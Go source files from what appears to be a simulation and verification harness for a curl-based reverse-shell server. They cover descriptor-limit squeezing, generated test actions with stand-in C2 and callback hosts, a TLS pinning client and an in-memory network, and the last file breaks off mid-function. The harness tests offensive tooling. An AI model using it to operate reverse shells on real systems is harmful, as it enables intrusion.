// and N > Margin requests for /c are made one after the other, each judged by
// the usual model of the template file.  Serving /c from a template file
// needs one descriptor at a time (the in-memory network, the log buffer and
// TLS need none), so a server that gives back what it takes can never run
// short; the harness proves the head-room (it opens Margin-4 descriptors at
// once) before the first request, and does not touch a file during the burst.
// Limit and collector are put back on every path out of the step.

// openDescriptors lists the numbers of the process's open descriptors.
func openDescriptors() ([]int, error) {
	d, err := os.Open("/proc/self/fd")
	if err != nil {
		return nil, err
	}
	defer d.Close()
	names, err := d.Readdirnames(-1)
	if err != nil {
		return nil, err
	}
	own := int(d.Fd())
	var fds []int
	for _, n := range names {
		if v, err := strconv.Atoi(n); err == nil && v != own {
			fds = append(fds, v)
		}
	}
	sort.Ints(fds)
	return fds, nil
}

// squeezeLimit is the smallest descriptor limit that leaves exactly margin
// free numbers below it, given the open descriptors fds (sorted).
func squeezeLimit(fds []int, margin int) int {
	l := margin
	for {
		below := sort.SearchInts(fds, l) // how many open descriptors are < l
		if l-below >= margin {
			return l
		}
		l = below + margin
	}
}

// lowerDescriptorLimit does what is said above and returns the function that
// undoes it (nil when nothing was changed).
func (s *sim) lowerDescriptorLimit(margin int) (restore func()) {
	fds, err := openDescriptors()
	if err != nil {
		s.probes["descriptor_squeeze_unavailable"]++
		s.obs("descriptors cannot be counted here: no squeeze")
		return nil
	}
	var old syscall.Rlimit
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &old); err != nil {
		s.probes["descriptor_squeeze_unavailable"]++
		s.obs("descriptor limit cannot be read here: no squeeze")
		return nil
	}
	lim := uint64(squeezeLimit(fds, margin))
	if lim >= old.Cur {
		// the process is short of descriptors as it is
		s.probes["descriptor_squeeze_unavailable"]++
		s.obs("descriptor limit is lower than the squeeze would make it: no squeeze")
		return nil
	}
	gc := debug.SetGCPercent(-1)
	ml := debug.SetMemoryLimit(math.MaxInt64)
	if err := syscall.Setrlimit(syscall.RLIMIT_NOFILE, &syscall.Rlimit{Cur: lim, Max: old.Max}); err != nil {
		debug.SetGCPercent(gc)
		debug.SetMemoryLimit(ml)
		s.probes["descriptor_squeeze_unavailable"]++
		s.obs("descriptor limit cannot be lowered here: no squeeze")
		return nil
	}
	restored := false
	restore = func() {
		if restored {
			return
		}
		restored = true
		if err := syscall.Setrlimit(syscall.RLIMIT_NOFILE, &old); err != nil && s.harnessErr == "" {
			s.harnessErr = "descriptor limit could not be put back: " + err.Error()
		}
		debug.SetGCPercent(gc)
		debug.SetMemoryLimit(ml)
	}
	// the head-room is really there: the harness itself can open margin-4
	// descriptors at once
	var held []*os.File
	for i := 0; i < margin-4; i++ {
		f, err := os.Open(os.DevNull)
		if err != nil {
			for _, h := range held {
				h.Close()
			}
			restore()
			s.harnessErr = "descriptor squeeze: the harness could open only " + strconv.Itoa(i) + " of the " + strconv.Itoa(margin) + " descriptors it left itself: " + err.Error()
			return nil
		}
		held = append(held, f)
	}
	for _, h := range held {
		h.Close()
	}
	return restore
}

// squeezeC: a.N requests for /c, one after the other, with a.Margin spare
// descriptors and no garbage collection.
func (s *sim) squeezeC(a Action) {
	restore := s.lowerDescriptorLimit(a.Margin)
	if s.harnessErr != "" {
		return
	}
	if restore != nil {
		defer restore()
		s.fault("descriptors_scarce_and_collector_off")
	}
	n := 0
	for i := 0; i < a.N && len(s.found) == 0 && s.harnessErr == ""; i++ {
		simkit.Heartbeat.Add(1)
		ai := Action{K: "get_c", Host: hostsPool[i%len(hostsPool)], SNI: sniPool[i%len(sniPool)]}
		if i%5 == 4 {
			ai.C2Q = c2Pool[i%len(c2Pool)]
		}
		s.getC(ai)
		n++
	}
	if restore != nil {
		s.probes["scripts_requested_under_descriptor_squeeze"] += int64(n)
		if n > a.Margin {
			s.probes["descriptor_squeeze_bursts_beyond_margin"]++
		}
		if s.tmplState == "valid" || s.tmplState == "empty" || s.tmplState == "unparsable" || s.tmplState == "execfail" {
			s.probes["descriptor_squeeze_with_readable_template"]++
		}
	}
}
