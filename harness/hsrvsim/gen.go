package hsrvsim

import (
	"fmt"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

func genConfig(job *simkit.Job, rng *simkit.RNG) Config {
	prof := job.Property
	if p := job.Args["profile"]; p != "" {
		prof = p
	}
	return Config{Profile: prof, Frag: []int{0, 0, 1, 7, 200}[rng.Intn(5)], ChanCap: 1024, Steps: rng.Range(12, 60), CoarseDisk: rng.Chance(1, 2)}
}

var hostsPool = []string{"kittens.com", "kittens.com:4444", "xn--bcher-kva.example", "10.9.8.7", "10.9.8.7:443", "moose.example.org:1", "[2001:db8::2]:8443", "bücher.example", "bücher.example:8443", "例え.jp"}
var sniPool = []string{"", "sni.example.com", "c2.example.net"}
var c2Pool = []string{"moose.com", "moose.com:8443", "192.0.2.9:443", "xn--bcher-kva.example", "a.b:1"}

func (s *sim) genBoot() Action {
	r := s.rng
	a := Action{K: "boot"}
	forms := []string{"127.0.0.1:0", "127.0.0.1"}
	if haveLocalhost {
		forms = append(forms, "localhost:0", "localhost")
	}
	if haveV6 {
		forms = append(forms, "[::1]:0", "::1")
	}
	if haveWild {
		forms = append(forms, "0.0.0.0:0")
	}
	a.Listen = forms[r.Intn(len(forms))]
	a.Cache = r.Chance(1, 2)
	n := r.Pick([]int{4, 3, 2})
	pool := []string{"cb.example.com", "cb.example.com:8443", "203.0.113.7", "203.0.113.7:443", "[2001:db8::1]:4443", "kittens.test:1", "2001:db8::1"}
	for i := 0; i < n; i++ {
		a.CB = append(a.CB, pool[r.Intn(len(pool))])
	}
	a.FDir = r.Chance(1, 3)
	a.Tmpl = r.Chance(1, 2)
	a.Port443 = r.Chance(1, 5)
	a.IPv6 = r.Chance(1, 3)
	if s.cacheBad {
		a.Cache = r.Chance(7, 8) // the damaged file is what the next start is about
	}
	switch s.cfg.Profile {
	case "C12":
		a.OneShell = r.Chance(4, 5)
	case "C07":
		a.Tmpl = r.Chance(3, 4)
	default:
		a.OneShell = r.Chance(1, 8)
	}
	// the broker's event loop gets to run late (late.go)
	l1, l2 := r.Chance(1, 3), r.Chance(1, 8)
	if a.OneShell {
		a.LateIOB = l1
	} else {
		a.LateIOB = l2
	}
	return a
}

func (s *sim) genGetC() Action {
	r := s.rng
	a := Action{K: "get_c"}
	if r.Chance(1, 3) {
		a.C2Q = c2Pool[r.Intn(len(c2Pool))]
		a.Form = r.Chance(1, 3)
	}
	if r.Chance(1, 3) {
		a.C2H = c2Pool[r.Intn(len(c2Pool))]
	}
	a.SNI = sniPool[r.Intn(len(sniPool))]
	if r.Chance(1, 4) {
		a.Proto10 = true // no Host header
	} else {
		a.Host = hostsPool[r.Intn(len(hostsPool))]
	}
	return a
}

func (s *sim) generate() (Action, bool) {
	r := s.rng
	var cands []Action
	var ws []int
	add := func(a Action, w int) {
		if w > 0 && s.precond(a) == nil {
			cands = append(cands, a)
			ws = append(ws, w)
		}
	}
	prof := s.cfg.Profile
	w := map[string]int{"boot": 100, "stop": 3, "get_c": 10, "tmpl": 4, "run_script": 6, "open": 6, "bad": 3, "line": 8, "out": 8, "close": 4, "sleep": 3, "del_cache": 1, "probe": 2, "io": 2, "burst": 2, "regen": 1, "pre": 2, "chain": 1, "resetl": 2,
		"flood": 1, "early": 1, "damage": 10, "linkpre": 15, "start_iob": 3, "long": 2, "squeeze": 0}
	switch prof {
	case "C05":
		w["stop"], w["get_c"], w["run_script"], w["close"], w["del_cache"], w["regen"], w["chain"] = 8, 12, 8, 8, 2, 3, 4
		w["damage"] = 60
	case "C08":
		w["stop"], w["damage"] = 8, 60
	case "C07":
		w["get_c"], w["tmpl"], w["run_script"], w["stop"], w["burst"] = 30, 12, 8, 2, 8
		w["linkpre"] = 60
		w["squeeze"] = 3
	case "C01":
		w["long"], w["bad"], w["open"] = 6, 8, 8
	case "C03":
		w["io"], w["out"], w["flood"] = 5, 12, 5
	case "C11":
		w["io"], w["bad"], w["close"], w["early"], w["open"] = 6, 6, 8, 10, 8
	case "C12":
		w["open"], w["bad"], w["line"], w["out"], w["close"], w["sleep"], w["get_c"], w["io"], w["pre"] = 12, 6, 10, 10, 5, 6, 3, 4, 6
	}
	if s.floods >= 3 || s.floods >= 1 && prof != "C03" {
		w["flood"] = 0 // (they are costly)
	}
	add(s.genBoot(), w["boot"])
	add(Action{K: "stop"}, w["stop"])
	if b := s.boot; b != nil && !b.iobStarted {
		switch {
		case b.goneFull > 0: // a whole shell has come and gone unseen by the event loop
			add(Action{K: "start_iob"}, 40)
		case b.ready > 0:
			add(Action{K: "start_iob"}, w["start_iob"]+1)
		default:
			add(Action{K: "start_iob"}, w["start_iob"])
		}
	}
	if b := s.boot; b != nil && b.tmplOn {
		// /c with few descriptors to spare and no garbage collection (squeeze.go)
		m := []int{32, 40, 64}[r.Intn(3)]
		sq := Action{K: "squeeze_c", Margin: m, N: m + r.Range(8, 40)}
		if s.tmplState == "valid" || s.tmplState == "empty" {
			add(sq, w["squeeze"])
		} else {
			add(sq, w["squeeze"]/4)
		}
	}
	add(s.genGetC(), w["get_c"])
	kinds := []string{"valid", "valid", "valid", "unparsable", "execfail", "empty", "missing", "dir"}
	s.tmplSerial++
	add(Action{K: "tmpl", T: kinds[r.Intn(len(kinds))], N: s.tmplSerial, Via: []string{"", "link"}[r.Intn(2)]}, w["tmpl"])
	if s.boot == nil {
		// the template is put in place, behind a link, before the server starts
		add(Action{K: "tmpl", T: "valid", N: s.tmplSerial, Via: "link"}, w["linkpre"])
		// the cache file takes a hit between two runs
		d := Action{K: "damage_cache", Mask: r.Range(1, 63)}
		switch r.Pick([]int{6, 4, 1}) {
		case 0: // the first bytes of the public key info: its framing
			d.Which, d.N, d.Mask = "spki", r.Intn(4), 1<<r.Intn(8)
		case 1:
			d.Which, d.N, d.Mask = certRegions[r.Intn(len(certRegions))], r.Intn(4096), 1<<r.Intn(8)
		default:
			d.Which, d.N = "key", r.Intn(4096)
		}
		add(d, w["damage"])
	}
	add(Action{K: "run_script"}, w["run_script"])
	add(Action{K: "del_cache"}, w["del_cache"])
	add(Action{K: "regen_cache"}, w["regen"])
	add(Action{K: "chain_cache"}, w["chain"])
	add(Action{K: "burst_c", N: r.Range(2, 6), Which: []string{"", "hold"}[r.Intn(2)]}, w["burst"])
	add(Action{K: "probe"}, w["probe"])
	add(Action{K: "sleep", Ms: []int{1, 100, 1900, 2100, 5000, 60000}[r.Intn(6)]}, w["sleep"])
	add(Action{K: "preconnect"}, w["pre"])
	live := s.liveSession()
	flood := func(a Action) Action {
		a.Flood = []int{300, 384, 520, 600, 64}[r.Intn(5)]
		a.Piece = []int{16, 60, 128, 300}[r.Intn(4)]
		return a
	}
	if live == nil && len(s.pre) > 0 {
		// a request on a connection that was made a while ago
		add(Action{K: "open_io", S: len(s.sess), Pre: true}, w["pre"]*2)
		add(Action{K: "open_in", S: len(s.sess), ID: fmt.Sprintf("id%d", len(s.sess)), Pre: true}, w["pre"])
	}
	if live != nil && live.io == nil && len(s.pre) > 0 {
		if live.in == nil {
			add(Action{K: "open_in", S: live.n, Pre: true}, w["pre"]*2)
		}
		if live.out == nil {
			add(Action{K: "open_out", S: live.n, Pre: true}, w["pre"]*2)
		}
	}
	if live == nil {
		id := []string{"id%d", "ID%d", "k %d", "a/b%d", "%%41%d", "k%d+"}[r.Intn(6)]
		id = fmt.Sprintf(id, len(s.sess))
		if r.Chance(1, 2) {
			add(Action{K: "open_in", S: len(s.sess), ID: id, N: r.Intn(3)}, w["open"])
		} else {
			add(Action{K: "open_out", S: len(s.sess), ID: id, N: r.Intn(3)}, w["open"])
		}
		// IDs far longer than the ones the scripts carry: the attempts refused
		// later on are made with IDs that differ from them in one place only
		long := []int{65, 66, 96, 129, 130, 200, 257, 300, 520}[r.Intn(9)]
		lk := []string{"open_in", "open_out"}[r.Intn(2)]
		add(Action{K: lk, S: len(s.sess), ID: id, N: r.Intn(3), Long: long}, w["long"])
		add(Action{K: "open_io", S: len(s.sess)}, w["io"])
		// a shell that is busy from the first instant: output follows the request at once
		add(flood(Action{K: "open_io", S: len(s.sess)}), w["flood"])
		add(flood(Action{K: "open_out", S: len(s.sess), ID: id, N: r.Intn(3)}), (w["flood"]+1)/2)
		// a client that is gone before the server has dealt with its request
		ek := []string{"open_io", "open_io", "open_in", "open_out"}[r.Intn(4)]
		if s.job.Mode == "selftest" && ek == "open_io" {
			// (which of the two halves' notices appear is the runtime's to choose, so not in self-test runs)
			ek = "open_in"
		}
		e := Action{K: ek, S: len(s.sess), Early: true}
		if ek != "open_io" {
			e.ID = id
		}
		add(e, w["early"])
	} else {
		if live.io == nil {
			if live.in == nil {
				add(Action{K: "open_in", S: live.n, N: r.Intn(3)}, w["open"]*3)
			}
			if live.out == nil {
				add(Action{K: "open_out", S: live.n, N: r.Intn(3)}, w["open"]*3)
				add(flood(Action{K: "open_out", S: live.n, N: r.Intn(3)}), w["flood"])
			}
		}
		add(flood(Action{K: "out", S: live.n}), w["flood"])
		add(Action{K: "open_io", S: len(s.sess), Which: "bad", Early: true}, w["early"])
		// an attempt that must be refused: wrong ID, a duplicate half, or /io
		has := live.in != nil || live.out != nil || live.io != nil
		if has {
			k := []string{"open_in", "open_out", "open_io"}[r.Intn(3)]
			badID := []string{"$livex", "$live^", "$live<", "$live~"}[r.Intn(4)] // resolved when applied: the live session's ID plus a suffix, in the other case, cut short, or with another first byte
			if other := r.Chance(1, 2); other && live.io == nil && (live.in == nil) != (live.out == nil) {
				// the half the shell is still waiting for, under a related ID
				if k = "open_in"; live.in != nil {
					k = "open_out"
				}
			}
			if r.Chance(1, 2) && (live.io != nil || k == "open_in" && live.in != nil || k == "open_out" && live.out != nil) {
				badID = "$live" // same ID, but that half is taken
			}
			add(Action{K: k, S: len(s.sess), ID: badID, Which: "bad", N: r.Intn(3)}, w["bad"])
		}
		add(Action{K: "out", S: live.n, B: []byte(fmt.Sprintf("<out%d.%d>\xff\x00\r\n", live.n, len(live.sentOut)))}, w["out"])
		if s.job.Mode != "selftest" {
			// (its outcome - no line or one line lost - is the runtime's to choose, so not in self-test runs)
			add(Action{K: "reset_lines", S: live.n, N: r.Range(1, 4)}, w["resetl"])
		}
		add(Action{K: "close", S: live.n, Which: []string{"", "", "out"}[r.Intn(3)], Reset: r.Chance(1, 3)}, w["close"])
	}
	add(Action{K: "line", B: []byte(fmt.Sprintf("line-%d \"q\" %%s", len(s.entered)))}, w["line"])
	i := r.Pick(ws)
	if i < 0 {
		return Action{}, false
	}
	return cands[i], true
}
