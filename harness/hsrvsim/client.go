package hsrvsim

import (
	"bufio"
	"crypto/sha256"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"

	"github.com/magisterquis/curlrevshell/verifharness/simnet"
)

// client is one simulated HTTPS client connection (a curl, in effect).
type client struct {
	s    *sim
	id   int
	conn *simnet.Conn
	tc   *tls.Conn
	br   *bufio.Reader
	pin  string // base64(sha256(SPKI)) of the leaf the server presented
	addr string // source IP, as the operator sees it

	mu       sync.Mutex
	status   int
	proto    string
	respDone bool // response header received
	respErr  error
	body     []byte
	bodyEOF  bool
	bodyErr  error
	closed   bool
	bodyAt   []int64 // fake-clock nanos at which each body piece arrived
}

// dial connects and completes the TLS handshake, computing the pin from the
// raw certificate exactly as curl does for --pinnedpubkey.
func (s *sim) dial(sni string) (*client, error) {
	conn, err := s.net.Dial("server", s.cfg.Frag)
	if err != nil {
		return nil, err
	}
	tc := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, ServerName: sni})
	if err := tc.Handshake(); err != nil {
		conn.Close()
		return nil, fmt.Errorf("handshake: %w", err)
	}
	c := &client{s: s, id: len(s.clients), conn: conn, tc: tc, br: bufio.NewReader(tc)}
	st := tc.ConnectionState()
	if len(st.PeerCertificates) == 0 {
		conn.Close()
		return nil, fmt.Errorf("no peer certificate")
	}
	h := sha256.Sum256(st.PeerCertificates[0].RawSubjectPublicKeyInfo)
	c.pin = base64.StdEncoding.EncodeToString(h[:])
	c.addr = conn.LocalAddr().String()
	if i := strings.LastIndex(c.addr, ":"); i > 0 {
		c.addr = c.addr[:i]
	}
	s.clients = append(s.clients, c)
	s.probes["tls_handshakes"]++
	if b := s.boot; b != nil && b.advert != c.pin {
		s.violate("C05", "advertised-is-served", "the fingerprint the server advertises is not the pin of the key it serves",
			"server advertises %s but this TLS handshake presented a key whose pin is %s", b.advert, c.pin)
	}
	return c, nil
}

func (c *client) write(b []byte) error {
	_, err := c.tc.Write(b)
	return err
}

// pump reads the response (header, then body as it arrives) in the background.
func (c *client) pump(method string) {
	go func() {
		resp, err := http.ReadResponse(c.br, &http.Request{Method: method})
		c.mu.Lock()
		if err != nil {
			c.respErr, c.respDone, c.bodyEOF = err, true, true
			c.mu.Unlock()
			return
		}
		c.status, c.proto, c.respDone = resp.StatusCode, resp.Proto, true
		c.mu.Unlock()
		buf := make([]byte, 4096)
		for {
			n, err := resp.Body.Read(buf)
			c.mu.Lock()
			if n > 0 {
				c.body = append(c.body, buf[:n]...)
				c.bodyAt = append(c.bodyAt, c.s.nowNanos())
			}
			if err != nil {
				c.bodyEOF = true
				if err != io.EOF {
					c.bodyErr = err
				}
				c.mu.Unlock()
				return
			}
			c.mu.Unlock()
		}
	}()
}

func (c *client) snapshot() (status int, body []byte, eof bool, done bool, err error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.status, append([]byte(nil), c.body...), c.bodyEOF, c.respDone, c.respErr
}

func (c *client) closeConn(reset bool) {
	c.mu.Lock()
	was := c.closed
	c.closed = true
	c.mu.Unlock()
	if was {
		return
	}
	if reset {
		c.conn.Reset()
		return
	}
	// orderly: TLS close-notify, then FIN
	c.tc.Close()
}

// chunk formats one HTTP/1.1 chunk.
func chunk(b []byte) []byte {
	return append(append([]byte(fmt.Sprintf("%x\r\n", len(b))), b...), '\r', '\n')
}
