module github.com/magisterquis/curlrevshell/verifharness

go 1.26

require (
	github.com/magisterquis/curlrevshell v0.0.0
	golang.org/x/sys v0.26.0
	golang.org/x/tools v0.26.0
)

require (
	github.com/magisterquis/goxterm v0.0.1-beta.2 // indirect
	golang.org/x/exp v0.0.0-20241009180824-f66d83c29e7c // indirect
	golang.org/x/net v0.30.0 // indirect
	golang.org/x/sync v0.8.0 // indirect
	golang.org/x/text v0.19.0 // indirect
)

replace github.com/magisterquis/curlrevshell => /repo
