// Package simnet is the in-memory network of the simulation: listeners and
// buffered, durable-blocking connections with deadlines, seeded
// fragmentation, resets and refusal.  It is safe inside a synctest bubble:
// every wait is a channel operation, and writes never block.
package simnet

import (
	"errors"
	"io"
	"net"
	"os"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Net is one simulated network.
type Net struct {
	mu        sync.Mutex
	seed      uint64
	listeners map[string]*Listener
	serial    int
	Stats     map[string]int64
}

// New returns an empty network; seed drives per-connection fragmentation.
func New(seed uint64) *Net {
	return &Net{seed: seed, listeners: map[string]*Listener{}, Stats: map[string]int64{}}
}

func (n *Net) count(k string) {
	n.mu.Lock()
	n.Stats[k]++
	n.mu.Unlock()
}

// Listener is a simulated listening socket.
type Listener struct {
	n      *Net
	addr   net.Addr
	name   string
	mu     sync.Mutex
	queue  []*Conn
	wake   chan struct{}
	closed chan struct{}
	once   sync.Once
	// Accepted counts connections handed to Accept.
	Accepted int
}

// Listen registers a listener under name (what Dial is given) reporting addr.
func (n *Net) Listen(name string, addr net.Addr) *Listener {
	l := &Listener{n: n, addr: addr, name: name, wake: make(chan struct{}, 1), closed: make(chan struct{})}
	n.mu.Lock()
	n.listeners[name] = l
	n.mu.Unlock()
	return l
}

// Accept implements net.Listener.
func (l *Listener) Accept() (net.Conn, error) {
	for {
		l.mu.Lock()
		if len(l.queue) > 0 {
			c := l.queue[0]
			l.queue = l.queue[1:]
			l.Accepted++
			l.mu.Unlock()
			return c, nil
		}
		l.mu.Unlock()
		select {
		case <-l.wake:
		case <-l.closed:
			return nil, &net.OpError{Op: "accept", Net: "tcp", Addr: l.addr, Err: net.ErrClosed}
		}
	}
}

// Close implements net.Listener: later dials are refused.
func (l *Listener) Close() error {
	err := error(&net.OpError{Op: "close", Net: "tcp", Addr: l.addr, Err: net.ErrClosed}) // what a second Close of a real listener returns
	l.once.Do(func() {
		err = nil
		close(l.closed)
		l.n.mu.Lock()
		if l.n.listeners[l.name] == l {
			delete(l.n.listeners, l.name)
		}
		l.n.mu.Unlock()
		// connections nobody accepted are reset
		l.mu.Lock()
		q := l.queue
		l.queue = nil
		l.mu.Unlock()
		for _, c := range q {
			c.Reset()
		}
	})
	return err
}

// Closed reports whether Close has been called.
func (l *Listener) Closed() bool {
	select {
	case <-l.closed:
		return true
	default:
		return false
	}
}

// Addr implements net.Listener.
func (l *Listener) Addr() net.Addr { return l.addr }

// Addr is the server-side local address of a connection: the listener's TCP
// address plus the connection's serial, so that a request context
// (http.LocalAddrContextKey) identifies its connection.
type Addr struct {
	*net.TCPAddr
	Serial int
}

// ErrRefused is what Dial returns when nothing listens.
var ErrRefused = &net.OpError{Op: "dial", Net: "tcp", Err: os.NewSyscallError("connect", syscall.ECONNREFUSED)}

// Dial connects to the listener registered under name.  frag > 0 makes every
// Read on either end return at most a seeded 1..frag bytes.
func (n *Net) Dial(name string, frag int) (*Conn, error) {
	n.mu.Lock()
	l := n.listeners[name]
	n.serial++
	serial := n.serial
	n.mu.Unlock()
	if l == nil || l.Closed() {
		n.count("dial_refused")
		return nil, ErrRefused
	}
	n.count("dial_ok")
	cip := net.IPv4(10, byte(1+serial/65536), byte(serial/256), byte(serial))
	caddr := &net.TCPAddr{IP: cip, Port: 40000 + serial%20000}
	st := &net.TCPAddr{IP: net.IPv4(192, 0, 2, 1), Port: 4444}
	if ta, ok := l.addr.(*net.TCPAddr); ok {
		st = ta
	}
	saddr := Addr{TCPAddr: st, Serial: serial}
	a2b, b2a := newPipe(), newPipe()
	client := &Conn{n: n, Serial: serial, rd: b2a, wr: a2b, local: caddr, remote: saddr, frag: frag}
	server := &Conn{n: n, Serial: serial, rd: a2b, wr: b2a, local: saddr, remote: caddr, frag: frag, server: true}
	client.peer, server.peer = server, client
	if frag > 0 {
		client.rng = simkit.NewRNG(n.seed, uint64(serial), 1)
		server.rng = simkit.NewRNG(n.seed, uint64(serial), 2)
	}
	l.mu.Lock()
	l.queue = append(l.queue, server)
	l.mu.Unlock()
	select {
	case l.wake <- struct{}{}:
	default:
	}
	return client, nil
}

type pipe struct {
	mu     sync.Mutex
	buf    []byte
	eof    bool  // writer closed cleanly
	err    error // reset
	wake   chan struct{}
	total  int64
	rdDead time.Time
}

func newPipe() *pipe { return &pipe{wake: make(chan struct{}, 1)} }

func (p *pipe) signal() {
	select {
	case p.wake <- struct{}{}:
	default:
	}
}

// Conn is one end of a simulated connection.
type Conn struct {
	n      *Net
	Serial int
	rd, wr *pipe
	local  net.Addr
	remote net.Addr
	peer   *Conn
	frag   int
	rng    *simkit.RNG
	server bool

	cmu    sync.Mutex
	closed bool
}

type timeoutErr struct{}

func (timeoutErr) Error() string   { return "i/o timeout" }
func (timeoutErr) Timeout() bool   { return true }
func (timeoutErr) Temporary() bool { return true }
func (timeoutErr) Is(t error) bool { return t == os.ErrDeadlineExceeded }

var errReset = &net.OpError{Op: "read", Net: "tcp", Err: os.NewSyscallError("read", syscall.ECONNRESET)}

// Read implements net.Conn.
func (c *Conn) Read(b []byte) (int, error) {
	p := c.rd
	for {
		c.cmu.Lock()
		closed := c.closed
		c.cmu.Unlock()
		if closed {
			return 0, net.ErrClosed
		}
		p.mu.Lock()
		if p.err != nil {
			err := p.err
			p.mu.Unlock()
			return 0, err
		}
		if len(b) == 0 {
			p.mu.Unlock()
			return 0, nil
		}
		if len(p.buf) > 0 {
			max := len(b)
			if c.frag > 0 {
				if k := 1 + c.rng.Intn(c.frag); k < max {
					max = k
				}
			}
			n := copy(b[:max], p.buf)
			p.buf = p.buf[n:]
			if len(p.buf) > 0 {
				p.signal()
			}
			p.mu.Unlock()
			return n, nil
		}
		if p.eof {
			p.mu.Unlock()
			return 0, io.EOF
		}
		dead := p.rdDead
		p.mu.Unlock()
		var timer <-chan time.Time
		var t *time.Timer
		if !dead.IsZero() {
			d := time.Until(dead)
			if d <= 0 {
				return 0, timeoutErr{}
			}
			t = time.NewTimer(d)
			timer = t.C
		}
		select {
		case <-p.wake:
		case <-timer:
		}
		if t != nil {
			t.Stop()
		}
	}
}

// Write implements net.Conn; it never blocks.
func (c *Conn) Write(b []byte) (int, error) {
	c.cmu.Lock()
	closed := c.closed
	c.cmu.Unlock()
	if closed {
		return 0, net.ErrClosed
	}
	p := c.wr
	p.mu.Lock()
	if p.err != nil {
		err := p.err
		p.mu.Unlock()
		return 0, &net.OpError{Op: "write", Net: "tcp", Err: errors.Unwrap(err)}
	}
	if p.eof {
		p.mu.Unlock()
		return 0, &net.OpError{Op: "write", Net: "tcp", Err: os.NewSyscallError("write", syscall.EPIPE)}
	}
	p.buf = append(p.buf, b...)
	p.total += int64(len(b))
	p.signal()
	p.mu.Unlock()
	return len(b), nil
}

// Close implements net.Conn: an orderly close (the peer reads EOF after the
// buffered data; the peer's writes then fail).
func (c *Conn) Close() error {
	c.cmu.Lock()
	if c.closed {
		c.cmu.Unlock()
		return nil
	}
	c.closed = true
	c.cmu.Unlock()
	c.wr.mu.Lock()
	c.wr.eof = true
	c.wr.signal()
	c.wr.mu.Unlock()
	// what the peer still sends goes nowhere
	c.rd.mu.Lock()
	c.rd.eof = true
	c.rd.buf = nil
	c.rd.signal()
	c.rd.mu.Unlock()
	return nil
}

// Reset aborts the connection: both ends fail with a reset, buffered data is
// lost.
func (c *Conn) Reset() {
	c.n.count("conn_reset")
	for _, p := range []*pipe{c.rd, c.wr} {
		p.mu.Lock()
		p.err = errReset
		p.buf = nil
		p.signal()
		p.mu.Unlock()
	}
}

// Buffered returns the number of bytes written to c that its peer has not
// read yet.
func (c *Conn) Buffered() int {
	c.wr.mu.Lock()
	defer c.wr.mu.Unlock()
	return len(c.wr.buf)
}

// LocalAddr implements net.Conn.
func (c *Conn) LocalAddr() net.Addr { return c.local }

// RemoteAddr implements net.Conn.
func (c *Conn) RemoteAddr() net.Addr { return c.remote }

// SetDeadline implements net.Conn.
func (c *Conn) SetDeadline(t time.Time) error { return c.SetReadDeadline(t) }

// SetReadDeadline implements net.Conn.
func (c *Conn) SetReadDeadline(t time.Time) error {
	c.rd.mu.Lock()
	c.rd.rdDead = t
	c.rd.signal()
	c.rd.mu.Unlock()
	return nil
}

// SetWriteDeadline implements net.Conn (writes never block).
func (c *Conn) SetWriteDeadline(time.Time) error { return nil }
