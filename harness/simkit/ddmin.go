package simkit

// Minimise shrinks items by delta debugging while fails(candidate) stays true.
// fails must be deterministic; a candidate that is not a valid case must make
// it return false.  budget bounds the number of test calls.
func Minimise[T any](items []T, fails func([]T) bool, budget int) []T {
	cur := append([]T(nil), items...)
	calls := 0
	try := func(c []T) bool {
		if calls >= budget {
			return false
		}
		calls++
		return fails(c)
	}
	n := 2
	for len(cur) >= 2 && calls < budget {
		chunk := (len(cur) + n - 1) / n
		reduced := false
		for start := 0; start < len(cur); start += chunk {
			end := start + chunk
			if end > len(cur) {
				end = len(cur)
			}
			cand := append(append([]T(nil), cur[:start]...), cur[end:]...)
			if len(cand) < len(cur) && try(cand) {
				cur = cand
				if n > 2 {
					n--
				}
				reduced = true
				break
			}
		}
		if !reduced {
			if chunk <= 1 {
				break
			}
			n *= 2
			if n > len(cur) {
				n = len(cur)
			}
		}
	}
	// final single-step pass
	for i := 0; i < len(cur) && calls < budget; {
		cand := append(append([]T(nil), cur[:i]...), cur[i+1:]...)
		if try(cand) {
			cur = cand
		} else {
			i++
		}
	}
	return cur
}
