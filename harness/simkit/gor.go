package simkit

import (
	"bytes"
	"runtime"
	"strconv"
	"strings"
	"sync"
)

// GoID returns the calling goroutine's id (parsed from its stack header; used
// only so that the harness can tell its own goroutines from the code's).
func GoID() int64 {
	var buf [64]byte
	n := runtime.Stack(buf[:], false)
	f := bytes.Fields(buf[:n])
	if len(f) < 2 {
		return -1
	}
	id, _ := strconv.ParseInt(string(f[1]), 10, 64)
	return id
}

// Goroutine is one entry of a goroutine dump.
type Goroutine struct {
	ID       int64
	State    string // text between the brackets
	Bubble   bool
	BubbleID int64 // synctest bubble the goroutine belongs to (0 if none)
	Stack    string
}

var (
	stackMu  sync.Mutex
	stackBuf = make([]byte, 1<<16)
)

// Goroutines returns a dump of all goroutines of the process.
func Goroutines() []Goroutine {
	stackMu.Lock()
	defer stackMu.Unlock()
	var buf []byte
	for {
		n := runtime.Stack(stackBuf, true)
		if n < len(stackBuf) {
			buf = stackBuf[:n]
			break
		}
		stackBuf = make([]byte, 2*len(stackBuf))
	}
	if WAMDebug != nil {
		lastRaw = ""
		for _, ln := range strings.Split(string(buf), "\n") {
			if strings.HasPrefix(ln, "goroutine ") {
				lastRaw += ln + " | "
			}
		}
	}
	var out []Goroutine
	for _, blk := range strings.Split(string(buf), "\n\n") {
		blk = strings.TrimSpace(blk)
		if !strings.HasPrefix(blk, "goroutine ") {
			continue
		}
		nl := strings.IndexByte(blk, '\n')
		hdr := blk
		if nl >= 0 {
			hdr = blk[:nl]
		}
		var g Goroutine
		f := strings.Fields(hdr)
		if len(f) >= 2 {
			g.ID, _ = strconv.ParseInt(f[1], 10, 64)
		}
		if i := strings.IndexByte(hdr, '['); i >= 0 {
			if j := strings.LastIndexByte(hdr, ']'); j > i {
				g.State = hdr[i+1 : j]
			}
		}
		if i := strings.Index(g.State, "synctest bubble "); i >= 0 {
			g.Bubble = true
			num := g.State[i+len("synctest bubble "):]
			if j := strings.IndexAny(num, ",] "); j >= 0 {
				num = num[:j]
			}
